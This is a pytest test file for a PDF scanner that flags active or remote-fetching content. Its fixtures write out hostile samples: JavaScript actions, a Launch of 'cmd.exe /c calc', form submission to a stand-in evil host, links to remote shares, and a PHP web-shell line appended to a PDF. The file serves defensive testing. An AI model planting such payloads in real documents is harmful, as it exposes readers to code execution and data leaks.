"""What a PDF would do, carry or fetch is found wherever it stands; links, bookmarks and forms of an ordinary one are no alarm."""

from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from syncd.model.document import Concern, FaultKind
from tests.memo.office_files import faults, packed, read

ACTIVE, LINKED = FaultKind.ACTIVE, FaultKind.LINKED
PAGE = b"BT /F1 24 Tf 72 700 Td (Announcement of the plan) Tj ET"
SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")

Change = Callable[[Pdf], None]


def made(change: Change = lambda _: None, **how: object) -> bytes:
    """A PDF of one page, changed before it is saved."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    page.Contents = pdf.make_stream(PAGE)
    page.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)))
    change(pdf)
    saved = BytesIO()
    pdf.save(saved, **how)  # type: ignore[arg-type]
    return saved.getvalue()


def root(**entries: object) -> Change:
    def change(pdf: Pdf) -> None:
        for key, value in entries.items():
            pdf.Root[f"/{key}"] = value

    return change


def note(**entries: object) -> Change:
    def add(pdf: Pdf) -> None:
        annotation = Dictionary(
            {"/Type": Name.Annot, "/Rect": Array([0, 0, 9, 9])} | {f"/{key}": it for key, it in entries.items()}
        )
        pdf.pages[0].obj.Annots = Array([annotation])

    return add


def link(action: Dictionary) -> Change:
    return note(Subtype=Name.Link, A=action)


def uri(address: str) -> Change:
    return link(Dictionary(S=Name.URI, URI=String(address)))


def attached(pdf: Pdf) -> None:
    pdf.attachments["a.txt"] = b"secret"


def carried(pdf: Pdf) -> None:
    file = Dictionary(Type=Name.Filespec, F="a.xml", EF=Dictionary(F=pdf.make_indirect(Stream(pdf, b"<a/>"))))
    pdf.Root.AF = Array([pdf.make_indirect(file)])


def kept_outside(pdf: Pdf) -> None:
    stream = Stream(pdf, b"")
    stream["/F"] = String("\\\\evil\\share\\a.jpg")
    pdf.pages[0].obj.Extra = pdf.make_indirect(stream)


HOSTILE: dict[str, tuple[Change, FaultKind]] = {
    "a script that opens it": (root(OpenAction=SCRIPT), ACTIVE),
    "a script when it closes": (root(AA=Dictionary(WC=SCRIPT)), ACTIVE),
    "a named script": (root(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", SCRIPT])))), ACTIVE),
    "a script as a stream": (
        lambda pdf: pdf.Root.__setattr__("OpenAction", Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))),
        ACTIVE,
    ),
    "a script behind a plain action": (root(OpenAction=Dictionary(S=Name.GoTo, Next=Array([Dictionary(Next=SCRIPT)]))), ACTIVE),
    "a script of a page": (lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=SCRIPT)), ACTIVE),
    "a script of a note": (note(Subtype=Name.Link, AA=Dictionary(E=SCRIPT)), ACTIVE),
    "a script of a field": (root(AcroForm=Dictionary(Fields=Array([Dictionary(FT=Name.Tx, AA=Dictionary(K=SCRIPT))]))), ACTIVE),
    "a script of a bookmark": (root(Outlines=Dictionary(First=Dictionary(Title="a", A=SCRIPT))), ACTIVE),
    "a script of a film": (root(X=Dictionary(S=Name.Rendition, JS="x")), ACTIVE),
    "an address that it opens by itself": (root(OpenAction=Dictionary(S=Name.URI, URI="https://evil.example/")), ACTIVE),
    "printing by itself": (root(OpenAction=Dictionary(S=Name.Named, N=Name.Print)), ACTIVE),
    "a form of XFA": (root(AcroForm=Dictionary(Fields=Array([]), XFA=Array(["template", "x"]))), ACTIVE),
    "a launch": (link(Dictionary(S=Name.Launch, F="cmd.exe")), ACTIVE),
    "a launch of Windows": (root(OpenAction=Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc"))), ACTIVE),
    "sending a form": (link(Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="http://evil.example/"))), ACTIVE),
    "fetching data": (link(Dictionary(S=Name.ImportData, F="a.fdf")), ACTIVE),
    "a film": (link(Dictionary(S=Name.Rendition)), ACTIVE),
    "a note with a film": (note(Subtype=Name.Screen), ACTIVE),
    "rich media": (note(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([])))), ACTIVE),
    "a model": (note(Subtype=Name("/3D")), ACTIVE),
    "a sound": (note(Subtype=Name.Sound), ACTIVE),
    "an attachment": (attached, ACTIVE),
    "a program in PostScript": (root(X=Dictionary(Type=Name.XObject, Subtype=Name.PS)), ACTIVE),
    "a page of another file": (
        root(X=Dictionary(Type=Name.XObject, Subtype=Name.Form, Ref=Dictionary(F="http://evil.example/a.pdf", Page=0))),
        LINKED,
    ),
    "where links begin, a share": (root(URI=Dictionary(Base="file://10.0.0.9/")), LINKED),
    "a file beside": (carried, ACTIVE),
    "a file on the page": (note(Subtype=Name.FileAttachment), ACTIVE),
    "a link into an attachment": (link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C))), ACTIVE),
    "a portfolio": (root(Collection=Dictionary(Type=Name.Collection, View=Name.T)), ACTIVE),
    "an address that is a script": (uri("javascript:app.alert(1)"), ACTIVE),
    "an address that is a script, spaced": (uri(" JaVa\tscript:alert(1)"), ACTIVE),
    "an address that is data": (uri("data:text/html,x"), ACTIVE),
    "an address of Windows": (uri("ms-officecmd:{}"), ACTIVE),
    "an address of a program": (uri("file:///C:/Windows/System32/calc.exe"), ACTIVE),
    "a share by smb": (uri("smb://10.0.0.9/a"), LINKED),
    "a share by file": (uri("file://10.0.0.9/a.pdf"), LINKED),
    "another PDF": (link(Dictionary(S=Name.GoToR, F="แผน.pdf", D=Array([0, Name.Fit]))), LINKED),
    "another PDF on a share": (link(Dictionary(S=Name.GoToR, F=Dictionary(F="\\\\evil\\a.pdf"), D=Array([0]))), LINKED),
    "a picture kept outside": (kept_outside, LINKED),
}  # fmt: skip
HOW = {
    "plain": {},
    "in object streams": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
    "locked for changes": {"encryption": pikepdf.Encryption(owner="x", user="")},
}


@pytest.mark.parametrize("how", HOW)
@pytest.mark.parametrize("what", HOSTILE)
def test_what_acts_carries_or_fetches_is_found(tmp_path: Path, what: str, how: str) -> None:
    change, kind = HOSTILE[what]
    assert kind in faults(read(tmp_path, "a.pdf", made(change, **HOW[how])))


def filled(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T="ชื่อ", V="ก")]), NeedAppearances=True)


def bookmarked(pdf: Pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("บทที่ 1", 0))


def archived(pdf: Pdf) -> None:
    with pdf.open_metadata() as metadata:
        metadata["pdfaid:part"] = "2"
        metadata["dc:title"] = "แผนปฏิบัติการ"


def tagged(pdf: Pdf) -> None:
    pdf.Root.StructTreeRoot = Dictionary(K=Array([Dictionary(S=Name.Figure, Alt="ภาพ"), Dictionary(S=Name.Link)]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([])), JavaScript=Dictionary(Names=Array([])))


HARMLESS: dict[str, Change] = {
    "nothing": lambda _: None,
    "a link": uri("https://www.obec.go.th/a?b=javascript:"),
    "a mailbox": uri("mailto:saraban@example.go.th"),
    "an address badly typed": uri("www.chaiyaphum3.go.th"),
    "a file of the writer's disk": uri("file:///D:/งาน/แผน.pdf"),
    "a link to a page": link(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
    "turning pages": link(Dictionary(S=Name.Named, N=Name.NextPage)),
    "a view to open with": root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])), PageMode=Name.UseNone),
    "a form without scripts": filled,
    "bookmarks": bookmarked,
    "the archive's description": archived,
    "tags, and lists that are empty": tagged,
    "a note": note(Subtype=Name.Text, Contents="ตรวจแล้ว", F=4),
}


@pytest.mark.parametrize("how", HOW)
@pytest.mark.parametrize("what", HARMLESS)
def test_an_ordinary_pdf_is_no_alarm(tmp_path: Path, what: str, how: str) -> None:
    document = read(tmp_path, "a.pdf", made(HARMLESS[what], **HOW[how]))
    assert (document.faults, document.unread) == ((), None)


def test_a_pdf_that_needs_a_password_is_said(tmp_path: Path) -> None:
    content = made(encryption=pikepdf.Encryption(owner="x", user="y"))
    assert faults(read(tmp_path, "a.pdf", content)) == {FaultKind.ENCRYPTED}


@pytest.mark.parametrize(
    ("before", "behind"),
    [
        (b"MZ\x90\0\n", b""),
        (b"\x89PNG\r\n\x1a\n", b""),
        (b"\xff\xd8\xff\xe0\0\x10JFIF\0", b""),
        (b"GIF89a;\n", b""),
        (b"BM\0\0\0\0\n", b""),
        (b"RIFF\x10\0\0\0WEBP\n", b""),
        (b"\0\0\0\x20ftypmp42\0", b""),
        (b"<html><body>\n", b""),
        (b"#!/bin/sh\n", b""),
        (b"alert(1)/*\n", b""),
        (b"", packed({"a.exe": "MZ"})),
        (b"", b"MZ\x90\0" + b"\0" * 500),
        (b"", b"<?php system($_GET[0]);"),
        (b"", b"\r\n<script>alert(1)</script>"),
        (b"", b"<html>"),
        (b"", b"Rar!\x1a\x07\0"),
        (b"", b"MZ\x90\0" + b"x" * 500 + b"\n%%EOF\n"),
        (b"", b"\0" * 9 + b"\x89PNG"),
        (b"", b"random " * 400),
    ],
)
def test_another_kind_of_file_around_a_pdf_is_found(tmp_path: Path, before: bytes, behind: bytes) -> None:
    assert FaultKind.FORBIDDEN_TYPE in faults(read(tmp_path, "a.pdf", before + made() + behind))


@pytest.mark.parametrize(
    ("before", "behind"), [(b"\xef\xbb\xbf", b""), (b"\x1b%-12345X@PJL\r\n", b""), (b"", b"\r\n\0\0"), (b"", b"\n%ok\n")]
)
def test_what_careless_programs_leave_around_a_pdf_is_no_alarm(tmp_path: Path, before: bytes, behind: bytes) -> None:
    assert faults(read(tmp_path, "a.pdf", before + made() + behind)) == set()


@pytest.mark.parametrize("length", [200, 4000])
def test_a_pdf_whose_last_change_was_cut_off_is_damaged_and_no_other_kind_of_file(tmp_path: Path, length: int) -> None:
    change = b"\n9 0 obj\n<</Type /Sig /Contents <" + b"0" * length
    assert faults(read(tmp_path, "a.pdf", made() + change)) == {FaultKind.DAMAGED}


def test_a_pdf_changed_by_its_program_later_is_no_alarm(tmp_path: Path) -> None:
    again = b"\n9 0 obj\n<< /Producer (x) >>\nendobj\nxref\n9 1\n%010d 00000 n \n"
    again += b"trailer\n<< /Size 10 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    first = made()
    previous = int(first[first.rindex(b"startxref") + 9 : first.rindex(b"%%EOF")])
    table = len(first) + again.index(b"xref\n9")
    assert read(tmp_path, "a.pdf", first + again % (len(first) + 1, previous, table)).faults == ()


OTHER = b"BT /F1 24 Tf 72 700 Td (Something else altogether) Tj ET"


def with_another_page(content: bytes, where: str) -> bytes:
    """A second definition of what the page shows, which the table of contents does not name."""
    second = b"\n4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(OTHER), OTHER)
    at = content.rindex(b"xref\n0") if where == "before the table" else content.rindex(b"startxref")
    moved = content[:at] + second + content[at:]
    if where == "before the table":
        table = int(content[content.rindex(b"startxref") + 9 : content.rindex(b"%%EOF")])
        moved = moved.replace(b"startxref\n%d" % table, b"startxref\n%d" % (table + len(second)))
    return moved


@pytest.mark.parametrize("where", ["before the table", "behind the table"])
def test_a_pdf_that_shows_another_page_to_who_searches_it_is_held(tmp_path: Path, where: str) -> None:
    plain = made()
    assert read(tmp_path, "a.pdf", plain).unread is None
    assert read(tmp_path, "a.pdf", with_another_page(plain, where)).unread


def test_a_pdf_whose_table_of_contents_is_broken_is_held(tmp_path: Path) -> None:
    """Each program mends it in its own way: what one shows is not what another does."""
    content = made()
    at = content.rindex(b"startxref")
    assert read(tmp_path, "a.pdf", content[:at] + b"startxref\n12345\n%%EOF\n").unread


def test_what_stands_in_a_file_that_a_pdf_carries_is_told_with_its_place(tmp_path: Path) -> None:
    def carry(pdf: Pdf) -> None:
        pdf.attachments["list.csv"] = "ชื่อ,เลขบัตร\nนายก,1999900722108\n".encode()
        inner = packed({"หน้า.txt": "โทร. 081-234-5678".encode(), "a.exe": b"MZ\x90\0" + b"\0" * 400})
        pdf.attachments["b.zip"] = inner

    document = read(tmp_path, "a.pdf", made(carry))
    assert {(spot.concern, spot.place) for spot in document.spots} == {
        (Concern.NATIONAL_ID, "list.csv › บรรทัด 2"),
        (Concern.PHONE, "b.zip › หน้า.txt › บรรทัด 1"),
    }
    assert FaultKind.ACTIVE in faults(document)
    assert [fault.inside for fault in document.faults if fault.kind is FaultKind.FORBIDDEN_TYPE] == ["b.zip › a.exe"]
